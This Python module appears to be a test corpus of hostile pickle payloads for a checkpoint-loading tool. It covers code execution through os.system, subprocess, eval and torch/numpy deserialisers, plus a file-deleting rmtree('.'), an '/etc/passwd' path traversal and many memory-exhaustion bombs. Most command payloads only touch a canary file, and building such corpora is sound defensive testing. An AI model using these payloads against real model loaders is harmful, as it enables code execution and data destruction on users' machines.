"""Pickles that try to run code, to exhaust the memory or to break the reader, one entry a trick.

A canary is an attempt to create the file or to set the environment variable that ``CANARY`` names.
"""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable

import numpy as np
import torch
from pickle_assembler import (
    ORDERED,
    built,
    call,
    data,
    name,
    number,
    reduced,
    storage,
    tensor,
    text,
    value,
    whole,
)

__all__ = ["CANARY", "CODE_PICKLES", "MACHINE", "PICKLES", "TENSORS"]

CANARY = "CKPT_TOOLS_CANARY"
SHELL = f"touch {CANARY}"
CODE = f"open({CANARY!r}, 'w').close()"
IMPORTING = f"__import__('os').environ.__setitem__({CANARY!r}, '1')"

Maker = Callable[[], bytes]


# --- code ---------------------------------------------------------------------------------------------------

CALLS: dict[str, bytes] = {
    "os.system": call("os.system", SHELL),
    "posix.system": call("posix.system", SHELL),
    "nt.system": call("nt.system", SHELL),
    "os.popen": call("os.popen", SHELL),
    "os.execl": call("os.execl", "/bin/sh", "sh", "-c", SHELL),
    "os.putenv": call("os.putenv", CANARY, "1"),
    "os.environ by attribute": call("os.environ.__setitem__", CANARY, "1"),
    "os.spawnl": call("os.spawnl", 0, "/bin/sh", "sh", "-c", SHELL),
    "posix.posix_spawn": call("posix.posix_spawn", "/bin/sh", ["sh", "-c", SHELL], {}),
    "os.remove": call("os.remove", "state.pt"),
    "subprocess.Popen": call("subprocess.Popen", ["sh", "-c", SHELL]),
    "subprocess.check_output": call("subprocess.check_output", ["sh", "-c", SHELL]),
    "subprocess.getoutput": call("subprocess.getoutput", SHELL),
    "commands.getoutput of Python 2": call("commands.getoutput", SHELL),
    "pty.spawn": call("pty.spawn", ["sh", "-c", SHELL]),
    "asyncio subprocess": call("asyncio.create_subprocess_shell", SHELL),
    "multiprocessing.util.spawnv_passfds": call(
        "multiprocessing.util.spawnv_passfds", data(b"/bin/sh"), [], []
    ),
    "builtins.eval": call("builtins.eval", CODE),
    "__builtin__.eval of Python 2": call("__builtin__.eval", CODE),
    "builtins.exec": call("builtins.exec", CODE),
    "builtins.exec of compile": call("builtins.exec", call("builtins.compile", CODE, "x", "exec")),
    "builtins.__import__": call("builtins.__import__", "this"),
    "builtins.open": call("builtins.open", CANARY, "w"),
    "io.open": call("io.open", CANARY, "w"),
    "_io.FileIO": call("_io.FileIO", CANARY, "w"),
    "builtins.getattr chain": call(
        call("builtins.getattr", call("builtins.__import__", "os"), "system"), SHELL
    ),
    "builtins.getattr of a module": call(call("builtins.getattr", name("os.path"), "os.system"), SHELL),
    "builtins.map in a list": call("builtins.list", call("builtins.map", name("os.system"), [SHELL])),
    "builtins.setattr": call("builtins.setattr", name("ckpt_tools.errors"), "CheckpointError", 3),
    "builtins.globals": call("builtins.globals"),
    "builtins.type with methods": call("builtins.type", "T", (), {"__del__": name("os.system")}),
    "builtins.breakpoint": call("builtins.breakpoint"),
    "builtins.input": call("builtins.input", "?"),
    "sys.modules": call("sys.modules.__getitem__", "os"),
    "sys.exit": call("sys.exit", 0),
    "sys.setrecursionlimit": call("sys.setrecursionlimit", 10**8),
    "runpy.run_path": call("runpy.run_path", "evil.py"),
    "runpy._run_code": call("runpy._run_code", CODE, {}),
    "importlib.import_module": call("importlib.import_module", "antigravity"),
    "importlib loader": call("importlib.machinery.SourceFileLoader", "evil", "evil.py"),
    "imp.load_source": call("imp.load_source", "evil", "evil.py"),
    "pkgutil.resolve_name": call(call("pkgutil.resolve_name", "os:system"), SHELL),
    "operator.attrgetter": call(call("operator.attrgetter", "system"), call("importlib.import_module", "os")),
    "operator.methodcaller": call(
        call("operator.methodcaller", "system", SHELL), call("builtins.__import__", "os")
    ),
    "operator.itemgetter": call(call("operator.itemgetter", "system"), name("os.__dict__")),
    "_operator.attrgetter": call(call("_operator.attrgetter", "system"), call("builtins.__import__", "os")),
    "operator.call": call("operator.call", name("os.system"), SHELL),
    "functools.partial": call(call("functools.partial", name("os.system"), SHELL)),
    "functools.partial by its state": call(
        built(call("functools.partial", name("builtins.print")), (name("os.system"), (SHELL,), {}, None))
    ),
    "functools.reduce": call("functools.reduce", name("os.system"), [0], SHELL),
    "itertools.starmap": call("builtins.list", call("itertools.starmap", name("os.system"), [(SHELL,)])),
    "copyreg._reconstructor": call(
        "copyreg._reconstructor", name("subprocess.Popen"), name("builtins.object"), None
    ),
    "copyreg.__newobj__": call("copyreg.__newobj__", name("subprocess.Popen"), ["sh", "-c", SHELL]),
    "copyreg.__newobj_ex__": call("copyreg.__newobj_ex__", name("os.system"), (SHELL,), {"x": 1}),
    "copyreg.__newobj__ of itself": call(
        "copyreg.__newobj__", name("copyreg.__newobj__"), name("os.system"), SHELL
    ),
    "copyreg.__reduce_ex__": call("copyreg.__reduce_ex__", name("os.system"), 0),
    "copyreg.add_extension": call("copyreg.add_extension", "os", "system", 7)
    + b"0\x82\x07"
    + value((SHELL,))
    + b"R",
    "copyreg.pickle": call("copyreg.pickle", name("builtins.int"), name("os.system")),
    "types.FunctionType": call(call("types.FunctionType", call("types.CodeType", 0, data(b"d\0S\0")), {})),
    "types.MethodType": call(call("types.MethodType", name("os.system"), SHELL)),
    "marshal.loads": call("marshal.loads", data(b"\xe3" + bytes(60))),
    "ctypes.CDLL": call("ctypes.CDLL", "libc.so.6"),
    "ctypes.memset": call("ctypes.memset", 0, 0, 1 << 30),
    "code.interact": call("code.InteractiveInterpreter.runsource", CODE),
    "pdb.run": call("pdb.run", CODE),
    "bdb.Bdb.run": call("bdb.Bdb.run", CODE),
    "timeit.timeit": call("timeit.timeit", CODE),
    "cProfile.run": call("cProfile.run", CODE),
    "trace.Trace": call(call("trace.Trace.run", CODE)),
    "doctest.debug_script": call("doctest.debug_script", CODE),
    "idlelib": call("idlelib.pyshell.ModifiedInterpreter.runcode", CODE),
    "webbrowser.open": call("webbrowser.open", "http://127.0.0.1:9/"),
    "urllib.request.urlopen": call("urllib.request.urlopen", "http://127.0.0.1:9/"),
    "socket.create_connection": call("socket.create_connection", ("127.0.0.1", 9)),
    "smtplib.SMTP": call("smtplib.SMTP", "127.0.0.1"),
    "shutil.rmtree": call("shutil.rmtree", "."),
    "shutil.copyfile": call("shutil.copyfile", "state.pt", CANARY),
    "pathlib touch": call(call("builtins.getattr", call("pathlib.PosixPath", CANARY), "touch")),
    "tempfile and zipfile": call("zipfile.ZipFile", CANARY, "w"),
    "logging.config": call(
        "logging.config.dictConfig", {"version": 1, "handlers": {"h": {"()": "os.system"}}}
    ),
    "weakref.finalize": call("weakref.finalize", name("builtins.print"), name("os.system"), SHELL),
    "atexit.register": call("atexit.register", name("os.system"), SHELL),
    "threading.Timer": call("threading.Timer", 0, name("os.system"), [SHELL]),
    "signal.raise_signal": call("signal.raise_signal", 9),
    "faulthandler._sigsegv": call("faulthandler._sigsegv"),
    "gc.get_objects": call("gc.get_objects"),
    "str.format": call(
        call("builtins.getattr", "{0.__class__.__init__.__globals__}", "format"), name("os.system")
    ),
    "string.Formatter": call("string.Formatter.vformat", "{0.__globals__}", (name("os.system"),), {}),
    "enum functional": call("enum.Enum", "E", {"a": name("os.system")}),
    "collections.namedtuple": call("collections.namedtuple", "x", CODE),
    "dataclasses.make_dataclass": call("dataclasses.make_dataclass", "X", ["a"]),
    "typing.get_type_hints": call("typing.ForwardRef._evaluate", CODE),
    "defaultdict with a factory": call(
        call("builtins.getattr", call("collections.defaultdict", name("os.getpid")), "__missing__"), SHELL
    ),
    "pickle.loads": call("pickle.loads", data(whole(call("os.system", SHELL)))),
    "_pickle.Unpickler": call("_pickle.Unpickler", call("io.BytesIO", data(b"."))),
    "dill._dill._import_module": call("dill._dill._import_module", "os"),
    "cloudpickle": call("cloudpickle.cloudpickle._make_skel_func", CODE),
    "joblib.load": call("joblib.load", "state.pt"),
    "torch.load": call("torch.load", "state.pt", None, name("pickle.loads")),
    "torch.serialization.load": call("torch.serialization.load", "state.pt"),
    "torch.jit.load": call("torch.jit.load", "state.pt"),
    "torch.hub.load": call("torch.hub.load", "evil/evil", "x"),
    "torch.utils.cpp_extension": call("torch.utils.cpp_extension.load_inline", "x", CODE),
    "torch.ops.load_library": call("torch.ops.load_library", "evil.so"),
    "torch._inductor": call("torch._inductor.codecache.compile_file", "evil.py", "x"),
    "torch.distributed.rpc": call("torch.distributed.rpc.internal._run_function", CODE),
    "torch.fx of source": call("torch.fx.graph_module.reduce_graph_module", {"_code": CODE}, "import os"),
    "torch.package": call("torch.package.package_importer.PackageImporter", "state.pt"),
    "torch._utils._import_dotted_name": call(call("torch._utils._import_dotted_name", "os.system"), SHELL),
    "torch._utils._set_obj_state": call("torch._utils._set_obj_state", name("os.environ"), {CANARY: "1"}),
    "torch._dynamo": call("torch._dynamo.eval_frame.OptimizedModule", name("os.system"), CODE),
    "torch.storage._load_from_bytes": call(
        "torch.storage._load_from_bytes", data(whole(call("os.system", SHELL)))
    ),
    "torch.storage._load_from_bytes of itself": call(
        "torch.storage._load_from_bytes",
        data(whole(call("torch.storage._load_from_bytes", data(whole(call("os.system", SHELL)))))),
    ),
    "torch._tensor._rebuild_from_type_v2": call(
        "torch._tensor._rebuild_from_type_v2", name("os.system"), name("builtins.str"), (SHELL,), {}
    ),
    "_rebuild_from_type_v2 of a deserialiser": call(
        "torch._tensor._rebuild_from_type_v2",
        name("torch.storage._load_from_bytes"),
        name("x.y"),
        (data(b"."),),
        {},
    ),
    "torch._utils._rebuild_parameter_with_state": call(
        "torch._utils._rebuild_parameter_with_state",
        tensor(),
        False,
        call(ORDERED),
        {"detach": name("os.system")},
    ),
    "numpy.load": call("numpy.load", "state.pt", None, True),
    "numpy.lib.npyio": call("numpy.lib.npyio.NpzFile", "state.pt"),
    "numpy.testing runstring": call("numpy.testing._private.utils.runstring", CODE, {}),
    "numpy.f2py": call("numpy.f2py.diagnose.run_command", SHELL),
    "numpy object array": pickle.dumps(np.array([type("E", (), {}), 1], dtype=object)[1:], 2)[2:-1],
    "numpy dtype with objects": built(
        call("numpy.dtype", "O8", 0, 1), (3, "|", None, None, None, -1, -1, 63)
    ),
    "numpy _reconstruct of another class": call(
        "numpy._core.multiarray._reconstruct", name("subprocess.Popen"), (0,), data(b"b")
    ),
    "numpy floats as pointers": built(
        call("numpy._core.multiarray._reconstruct", name("numpy.ndarray"), (0,), data(b"b")),
        (
            1,
            (2,),
            built(call("numpy.dtype", "f8", 0, 1), (3, "<", None, None, None, -1, -1, 63)),
            False,
            data(b"A" * 9),
        ),
    ),
    "numpy scalar of objects": call(
        "numpy._core.multiarray.scalar", call("numpy.dtype", "O8"), data(b"A" * 8)
    ),
    "numpy scalar cut short": call("numpy._core.multiarray.scalar", call("numpy.dtype", "f8"), data(b"A")),
    "numpy _frombuffer": call(
        "numpy._core.numeric._frombuffer", data(b"A"), call("numpy.dtype", "f8"), (1 << 60,), "C"
    ),
    "datetime from bytes": call("datetime.datetime", data(b"\x00\x00\x0c\xff\xff\xff\xff\xff\xff\xff")),
    "torch.device of anything": call("torch.device", "cuda:99999999999999999999"),
    "torch.Size of anything": call("torch.Size", [-1, 1 << 80]),
}


def _nested(depth: int) -> bytes:
    """Calls as arguments of calls."""
    body = call("os.system", SHELL)
    for _ in range(depth):
        body = call("builtins.eval", body)
    return body


def _pickles_in_pickles(depth: int) -> bytes:
    body = whole(call("os.system", SHELL))
    for _ in range(depth):
        body = whole(call("torch.storage._load_from_bytes", data(body)))
    return body


CODE_PICKLES: dict[str, Maker] = {
    **{label: (lambda body=body: whole(body)) for label, body in CALLS.items()},
    "calls inside calls": lambda: whole(_nested(2000)),
    "pickles inside pickles": lambda: _pickles_in_pickles(40),
    **{f"protocol {p} of pickle itself": (lambda p=p: reduced(eval, CODE, protocol=p)) for p in range(6)},
    "INST": lambda: f"(S'{SHELL}'\nios\nsystem\n.".encode(),
    "OBJ": lambda: whole(b"(" + name("os.system") + text(SHELL) + b"o"),
    "NEWOBJ": lambda: whole(name("os.system") + value((SHELL,)) + b"\x81"),
    "NEWOBJ_EX": lambda: whole(
        name("subprocess.Popen") + value((SHELL,)) + value({"shell": True}) + b"\x92", 4
    ),
    "STACK_GLOBAL": lambda: whole(text("os") + text("system") + b"\x93" + value((SHELL,)) + b"R", 4),
    "STACK_GLOBAL with dots": lambda: whole(
        text("os.path") + text("os.system") + b"\x93" + value((SHELL,)) + b"R", 4
    ),
    "extension code of one byte": lambda: whole(b"\x82\xf0" + value((SHELL,)) + b"R"),
    "extension code of two bytes": lambda: whole(b"\x83\xf1\xf0" + value((SHELL,)) + b"R"),
    "extension code of four bytes": lambda: whole(b"\x84\xf2\xf1\xf0\x00" + value((SHELL,)) + b"R"),
    "PERSID": lambda: whole(b"Pos.system\n"),
    "BINPERSID of a call": lambda: whole(call("os.system", SHELL) + b"Q"),
    "BUILD into a class": lambda: whole(built(name("torch.nn.Module"), {"__call__": name("os.system")})),
    "BUILD with __setstate__": lambda: whole(
        built(built(call("argparse.Namespace"), {"__setstate__": name("os.system")}), SHELL)
    ),
    "BUILD with __class__ and __dict__": lambda: whole(
        built(call("argparse.Namespace"), {"__class__": name("subprocess.Popen"), "__dict__": {"a": 1}})
    ),
    "BUILD with slots": lambda: whole(
        built(call("types.SimpleNamespace"), (None, {"__class__": name("os.system")}))
    ),
    "BUILD into a tensor": lambda: whole(built(tensor(), {"data": 3, "__class__": name("os.system")})),
    "BUILD into a dict": lambda: whole(built(call(ORDERED), {"items": name("os.system"), "__class__": 3})),
    "items of a foreign mapping": lambda: whole(name("os.environ") + value((CANARY, "1"))[1:-1] + b"s"),
    "appending to a foreign list": lambda: whole(
        call("multiprocessing.managers.ListProxy") + text(SHELL) + b"a"
    ),
    "a module that calls back": lambda: whole(
        built(
            call("torch.nn.modules.module.Module"),
            {
                "_parameters": {},
                "_buffers": {},
                "_modules": {},
                "_state_dict_hooks": {1: name("os.system")},
                "_state_dict_pre_hooks": {2: name("os.system")},
            },
        )
    ),
    "an out-of-band buffer": lambda: whole(b"\x97\x98", 5),
    "a module named __main__": lambda: whole(call("__main__.CANARY")),
    "a module of this package": lambda: whole(call("ckpt_tools.storage.formats.pickles.load_pickle", SHELL)),
    "dunder names": lambda: whole(call("builtins.object.__subclasses__")),
    "names in Unicode": lambda: whole(call("ο\u0455.ѕуѕтем", SHELL)),
    "an empty name": lambda: whole(b"c\n\n" + value((SHELL,)) + b"R"),
}


# --- tensors ------------------------------------------------------------------------------------------------


def state(body: bytes) -> bytes:
    """A state dict of four good numbers and one bad entry."""
    return whole(value({"good": tensor(), "bad": body}))


TENSORS: dict[str, Maker] = {
    "a size beyond the storage": lambda: state(tensor((5,))),
    "an offset beyond the storage": lambda: state(tensor(offset=1)),
    "an offset far beyond": lambda: state(tensor(offset=1 << 62)),
    "a stride beyond the storage": lambda: state(tensor(stride=(2,))),
    "a stride that overflows": lambda: state(tensor((3,), ((1 << 62),))),
    "sizes whose product overflows": lambda: state(tensor((1 << 32, 1 << 32), (0, 0))),
    "sizes whose product is zero but huge": lambda: state(tensor((1 << 62, 1 << 62, 0), (0, 0, 0))),
    "a size of many bits": lambda: state(tensor((1 << 300,))),
    "a negative size": lambda: state(tensor((-1,))),
    "a negative stride": lambda: state(tensor(stride=(-1,))),
    "a negative offset": lambda: state(tensor(offset=-1)),
    "sizes without strides": lambda: state(tensor((2, 2), (1,))),
    "a size that is a text": lambda: state(tensor(("4",))),
    "a size that is a float": lambda: state(tensor((b"G" + struct.pack(">d", 4.0),))),
    "a size that is an object": lambda: state(tensor((call("os.system", SHELL),))),
    "sizes that are a number": lambda: state(tensor(4)),
    "a thousand dimensions": lambda: state(tensor((1,) * 1000, (1,) * 1000)),
    "four numbers repeated to a terabyte": lambda: state(tensor((1 << 38,), (0,))),
    "a storage that announces more": lambda: state(tensor(where=storage(count=1 << 40))),
    "a storage of negative size": lambda: state(tensor(where=storage(count=-4))),
    "a storage of a wider type": lambda: state(tensor(where=storage("torch.DoubleStorage"))),
    "a storage of an unknown type": lambda: state(tensor(where=storage("torch.EvilStorage"))),
    "a storage of a foreign type": lambda: state(tensor(where=storage("evil.FloatStorage"))),
    "a storage whose type is a number": lambda: state(tensor(where=storage(""))),
    "a storage that is not there": lambda: state(tensor(where=storage(key="999"))),
    "a storage outside the archive": lambda: state(tensor(where=storage(key="../../../../etc/passwd"))),
    "a storage whose key is a number": lambda: state(tensor(where=storage(key=0))),
    "a storage whose key is a list": lambda: state(tensor(where=storage(key=["0"]))),
    "a storage whose size is a text": lambda: state(tensor(where=storage(count="4"))),
    "a storage of quantised numbers": lambda: state(tensor(where=storage("torch.QInt8Storage"))),
    "a persistent id of another kind": lambda: state(tensor(where=value(("gpu", 1, 2, 3, 4)) + b"Q")),
    "a persistent id that is short": lambda: state(tensor(where=value(("storage",)) + b"Q")),
    "a tensor over a text": lambda: state(tensor(where=text("0"))),
    "a tensor over an object": lambda: state(tensor(where=call("os.system", SHELL))),
    "a tensor over a tensor": lambda: state(tensor(where=tensor())),
    "a tensor without arguments": lambda: state(call("torch._utils._rebuild_tensor_v2")),
    "a tensor whose type is an object": lambda: state(
        call(
            "torch._utils._rebuild_tensor_v3", storage(), 0, (4,), (1,), False, None, call("os.system", SHELL)
        )
    ),
    "a tensor whose metadata is an object": lambda: state(
        call(
            "torch._utils._rebuild_tensor_v2",
            storage(),
            0,
            (4,),
            (1,),
            False,
            None,
            {"conj": name("os.system")},
        )
    ),
    "a sparse tensor beyond its size": lambda: state(
        call(
            "torch._utils._rebuild_sparse_tensor",
            name("torch.sparse_coo"),
            (tensor(), tensor(), (1 << 60,), True),
        )
    ),
    "a quantised tensor beyond its storage": lambda: state(
        call(
            "torch._utils._rebuild_qtensor",
            storage("torch.QInt8Storage"),
            1 << 50,
            (9,),
            (9,),
            (0, 1, 2),
            False,
            None,
        )
    ),
    "a meta tensor of any size": lambda: state(
        call("torch._utils._rebuild_meta_tensor_no_storage", name("torch.float32"), (1 << 60,), (1,), False)
    ),
    "a wrapper subclass": lambda: state(
        call(
            "torch._utils._rebuild_wrapper_subclass",
            name("evil.Tensor"),
            name("torch.float32"),
            (4,),
            (1,),
            0,
        )
    ),
    "a nested tensor": lambda: state(
        call("torch._utils._rebuild_nested_tensor", tensor(), tensor(), tensor(), 1 << 60)
    ),
    "a key that is a tensor": lambda: whole(b"}" + tensor() + tensor() + b"s"),
    "keys that are numbers": lambda: whole(b"}" + value(1) + tensor() + b"s"),
    "keys that are no Unicode": lambda: whole(value({"\ud800": tensor()})),
    "keys that move the cursor": lambda: whole(value({"\x1b[2J\r\n": tensor()})),
    "a key of many prefixes": lambda: whole(value({"module." * 20_000 + "w": tensor()})),
    "a word that is no Unicode": lambda: whole(value({"w": tensor(), "note": "\ud800"})),
    "a word of a million digits": lambda: whole(
        value({"model": {"w": tensor()}, "n": b"\x8b\0\0\1\0" + b"A" * 65536})
    ),
    "a module inside itself": lambda: whole(
        name("torch.nn.Module")
        + b")\x81q\x01"
        + value({"_parameters": {}, "_buffers": {"x": tensor()}})[:-1]
        + text("_modules")
        + b"}"
        + text("again")
        + b"h\x01su"
        + b"b"
    ),
    "modules that unfold without end": lambda: whole(_unfolding_modules(40)),
}


def _unfolding_modules(depth: int) -> bytes:
    body = built(call("torch.nn.Module"), {"_parameters": {"w": tensor()}, "_buffers": {}, "_modules": {}})
    for at in range(depth):
        body += b"q" + bytes([at]) + b"0"
        children = {"a": b"h" + bytes([at]), "b": b"h" + bytes([at])}
        body += built(call("torch.nn.Module"), {"_parameters": {}, "_buffers": {}, "_modules": children})
    return body


# --- the machine itself -------------------------------------------------------------------------------------


def _shared(width: int, depth: int, make: Callable[[bytes], bytes]) -> bytes:
    """A container of ``width`` times the one before it, ``depth`` times."""
    body = make(b"K\x01" * width)
    for at in range(depth):
        body += b"q" + bytes([at]) + b"0" + make((b"h" + bytes([at])) * width)
    return body


MACHINE: dict[str, Maker] = {
    "nothing": lambda: b"",
    "only a protocol": lambda: b"\x80\x02",
    "an unknown protocol": lambda: b"\x80\xff}.",
    "no STOP": lambda: b"\x80\x02}",
    "STOP on an empty stack": lambda: b"\x80\x02.",
    "an unknown instruction": lambda: b"\x80\x02\xff.",
    "trailing garbage": lambda: whole(value({"good": tensor()})) + b"\xff" * 100,
    "a second pickle behind": lambda: whole(value({"good": tensor()})) + whole(call("os.system", SHELL)),
    "POP of nothing": lambda: whole(b"0000"),
    "REDUCE of nothing": lambda: whole(b"R"),
    "REDUCE across a mark": lambda: whole(name("os.system") + b"(" + text(SHELL) + b"R"),
    "TUPLE without a mark": lambda: whole(b"t"),
    "SETITEMS of an odd number": lambda: whole(b"}(K\x01u"),
    "SETITEMS of a number": lambda: whole(b"K\x01(K\x01K\x02u"),
    "APPENDS to a text": lambda: whole(text("x") + b"(K\x01e"),
    "ADDITEMS to a dict": lambda: whole(b"}(K\x01\x90", 4),
    "BUILD of nothing": lambda: whole(b"b"),
    "arguments that are no tuple": lambda: whole(name("os.system") + text(SHELL) + b"R"),
    "a call of a number": lambda: whole(b"K\x01" + value((1,)) + b"R"),
    "a memo that was never filled": lambda: whole(b"h\x07"),
    "a memo index beyond all": lambda: whole(b"}r\xff\xff\xff\xffj\xff\xff\xff\xff"),
    "a memo index that is no number": lambda: whole(b"}pevil\n"),
    "a million memo entries": lambda: whole(
        b"}" + b"".join(b"r" + struct.pack("<I", i * 4000) for i in range(100_000))
    ),
    "a text longer than the file": lambda: whole(b"X\xff\xff\xff\xffabc"),
    "bytes of eight exabytes": lambda: whole(b"\x8e\xff\xff\xff\xff\xff\xff\xff\x7f", 4),
    "a bytearray of eight exabytes": lambda: whole(b"\x96\xff\xff\xff\xff\xff\xff\xff\x7f", 5),
    "a frame of eight exabytes": lambda: whole(b"\x95\xff\xff\xff\xff\xff\xff\xff\x7f}", 4),
    "an integer of negative length": lambda: whole(b"\x8b\xff\xff\xff\xff"),
    "an integer of four billion bytes": lambda: whole(b"\x8b\xff\xff\xff\x7f"),
    "an integer of many decimal digits": lambda: b"L" + b"9" * 100_000 + b"L\n.",
    "a text that is no UTF-8": lambda: whole(b"X\x01\0\0\0\xff"),
    "a string without quotes": lambda: b"Sevil\n.",
    "an escape that is cut": lambda: b"S'\\x'\n.",
    "a line without an end": lambda: b"cos",
    "STACK_GLOBAL of numbers": lambda: whole(b"K\x01K\x02\x93", 4),
    "STACK_GLOBAL of lists": lambda: whole(b"]]\x93", 4),
    "STACK_GLOBAL of long names": lambda: whole(text("a" * 70_000) + text("b") + b"\x93", 4),
    "a key that is a list": lambda: whole(b"}]K\x01s"),
    "a key that is a tuple of lists": lambda: whole(b"}](]]tK\x01s"),
    "a set of lists": lambda: whole(b"\x8f(]\x90", 4),
    "a frozenset of dicts": lambda: whole(b"(}\x91", 4),
    "a key of nested tuples": lambda: whole(b"})" + b"\x85" * 100_000 + b"K\x01s"),
    "a set of nested tuples": lambda: whole(call("builtins.set", b"](" + b")" + b"\x85" * 100_000 + b"e")),
    "a key that takes forever to hash": lambda: whole(
        b"}" + _shared(2, 60, lambda x: b"(" + x + b"t") + b"K\x01s"
    ),
    "keys with one hash": lambda: whole(
        b"}(" + b"".join(number(i * ((1 << 61) - 1)) + b"N" for i in range(1, 20_000)) + b"u"
    ),
    "tuples 100,000 deep": lambda: whole(b")" + b"\x85" * 100_000),
    "lists 100,000 deep": lambda: whole(b"]" * 100_000 + b"a" * 99_999),
    "dicts 50,000 deep": lambda: whole((b"}" + text("a")) * 50_000 + b"}" + b"s" * 50_000),
    "objects 50,000 deep": lambda: whole(b"N" + b"q\x000cevil\nX\n(h\x00tR" * 50_000),
    "marks 100,000 deep": lambda: whole(b"(" * 100_000),
    "a list that holds itself": lambda: whole(b"]q\x00h\x00a"),
    "a dict that holds itself": lambda: whole(b"}q\x00" + text("model") + b"h\x00s"),
    "an object that holds itself": lambda: whole(b"cevil\nX\n)\x81q\x00}" + text("me") + b"h\x00sb"),
    "lists that unfold without end": lambda: whole(
        value({"w": tensor(), "x": b"N"})[:-2] + _shared(16, 30, lambda x: b"](" + x + b"e") + b"u"
    ),
    "tuples that unfold without end": lambda: whole(_shared(16, 30, lambda x: b"(" + x + b"t")),
    "objects that unfold without end": lambda: whole(
        value({"w": tensor(), "x": b"N"})[:-2]
        + _shared(16, 30, lambda x: b"cevil\nX\n)\x81}" + text("a") + b"](" + x + b"esb")
        + b"u"
    ),
    "sets of one list again and again": lambda: whole(
        b"]("
        + b"K\x01" * 50_000
        + b"eq\x00"
        + b"0cbuiltins\nlist\nq\x010"
        + b"h\x01h\x00\x85R0" * 50_000
        + b"N"
    ),
    "sets through __newobj_ex__": lambda: whole(
        b"]("
        + b"K\x01" * 50_000
        + b"eq\x00\x85q\x020"
        + name("copyreg.__newobj_ex__")
        + b"q\x030"
        + name("builtins.list")
        + b"q\x040"
        + b"h\x03(h\x04h\x02}tR0" * 50_000
        + b"N"
    ),
    "one inner pickle again and again": lambda: whole(
        data(b"\x80\x02B" + struct.pack("<I", 1_000_000) + bytes(1_000_000) + b".")
        + b"q\x000"
        + name("torch.storage._load_from_bytes")
        + b"q\x010"
        + b"h\x01h\x00\x85R0" * 20_000
        + b"N"
    ),
    "one array again and again": lambda: whole(
        data(bytes(1_000_000))
        + b"q\x000"
        + built(call("numpy.dtype", "u1"), (3, "|", None, None, None, -1, -1, 0))
        + b"q\x010"
        + name("numpy._core.numeric._frombuffer")
        + b"q\x020"
        + (b"h\x02(h\x00h\x01" + value((1_000_000,)) + text("C") + b"tR") * 20_000
    ),
    "states merged again and again": lambda: whole(
        value({str(i): 1 for i in range(40_000)}) + b"q\x000" + b"cevil\nX\n)\x81" + b"h\x00b" * 20_000
    ),
    "a name that grows": lambda: whole(
        name("a.b")
        + b"q\x000"
        + (name("builtins.getattr") + b"(h\x00" + text("c" * 100) + b"tRq\x000") * 2_000
        + b"h\x00"
    ),
}

PICKLES: dict[str, Maker] = {**CODE_PICKLES, **TENSORS, **MACHINE}


class Net(torch.nn.Module):
    """A model for the commands that need one; no file of the corpus fits it."""

    def __init__(self) -> None:
        super().__init__()
        self.norm = torch.nn.BatchNorm1d(4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.norm(x)
